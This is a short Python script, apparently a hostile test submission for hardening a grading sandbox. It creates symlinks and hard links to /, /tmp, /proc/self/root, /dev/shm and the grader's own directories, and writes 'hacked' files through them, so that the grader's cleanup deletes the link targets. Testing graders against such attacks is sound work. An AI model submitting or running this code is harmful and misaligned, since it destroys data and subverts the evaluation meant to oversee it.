"""Makes links out of its folder and has the grader remove what they lead to."""

import os
for number, path in enumerate(("/", "/tmp", "{top}", "{top}/grading", "{repository}/helpers", "/proc/self/root", "/dev/shm")):
    for make in (os.symlink, os.link):
        try:
            make(path, f"link{number}")
        except OSError as error:
            print(error)
    try:
        open(f"link{number}/hacked", "w")
    except OSError:
        pass
